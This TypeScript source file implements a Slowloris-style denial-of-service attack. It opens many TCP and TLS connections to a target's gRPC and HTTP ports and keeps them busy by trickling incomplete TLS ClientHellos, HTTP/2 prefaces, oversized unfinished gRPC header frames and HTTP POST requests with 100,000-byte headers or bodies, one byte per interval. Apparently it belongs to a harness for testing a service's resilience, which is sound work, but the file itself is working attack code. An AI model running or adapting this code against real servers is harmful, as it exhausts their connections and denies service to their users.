import type { Attack, Counts } from './attack.js';
import { keepOpen, openTcp, openTls, trickle } from './connection.js';
import { callHeaders, END_HEADERS, frame, greeting, message, PREFACE } from './frames.js';

const LONG = 100_000;
/** The first bytes of a ClientHello: a record of 508 bytes is announced. */
const HELLO = Buffer.from([0x16, 0x03, 0x01, 0x01, 0xfc, 0x01, 0x00, 0x01, 0xf8, 0x03, 0x03]);

/** Slowloris: everything that a connection can say, said as slowly as is possible, a share of the connections each. */
export const slowClients: Attack = (target, { connections = 10, byteMs = 1_000 }) => {
  const counts: Counts = { connections: 0 };
  const ways = [
    ...[target.grpc, target.http].flatMap((address) => [
      (index: number) => openTcp(address, index),
      (index: number) => slowTcp(address, index, HELLO),
    ]),
    ...[PREFACE, ...slowCalls()].map((bytes) => (index: number) => slowTls('grpc', 'h2', index, bytes)),
    ...slowRequests().map((bytes) => (index: number) => slowTls('http', 'http/1.1', index, bytes)),
  ];
  const opened = () => {
    counts.connections = (counts.connections ?? 0) + 1;
  };
  const slowTcp = (address: string, index: number, bytes: Buffer) => {
    const socket = openTcp(address, index);
    return socket.once('connect', () => trickle(socket, bytes, byteMs));
  };
  /** What comes at once, and what comes slowly after it. */
  const slowTls = (
    port: 'grpc' | 'http',
    protocol: 'h2' | 'http/1.1',
    index: number,
    bytes: Buffer | Slow,
  ) => {
    const socket = openTls(target[port], target, protocol, index);
    const { first, rest } = 'rest' in bytes ? bytes : { first: Buffer.alloc(0), rest: bytes };
    return socket.once('secureConnect', () => {
      socket.write(first);
      socket.resume();
      trickle(socket, rest, byteMs);
    });
  };
  keepOpen(connections, (index) => {
    opened();
    return (ways[index % ways.length] as (typeof ways)[number])(index);
  });
  return counts;
};

interface Slow {
  readonly first: Buffer;
  readonly rest: Buffer;
}

/** Headers that do not end, and a message that does not, of gRPC. */
function slowCalls(): Slow[] {
  const headers = callHeaders('IsOnline', { 'x-long': 'x'.repeat(16_000) });
  const call = frame('headers', { flags: END_HEADERS, stream: 1, payload: callHeaders('IsOnline') });
  const data = frame('data', { stream: 1, payload: message(Buffer.alloc(LONG)).subarray(0, 16_000) });
  return [
    { first: greeting(), rest: frame('headers', { flags: END_HEADERS, stream: 1, payload: headers }) },
    { first: Buffer.concat([greeting(), call]), rest: data },
  ];
}

/** The same of HTTP. */
function slowRequests(): Slow[] {
  const head = 'POST /api/v1/session HTTP/1.1\r\nhost: localhost\r\n';
  const body = `${head}content-type: application/json\r\ncontent-length: ${LONG}\r\n\r\n`;
  return [
    { first: Buffer.alloc(0), rest: Buffer.from(`${head}x-long: ${'x'.repeat(LONG)}`) },
    { first: Buffer.from(body), rest: Buffer.alloc(LONG, ' ') },
  ];
}
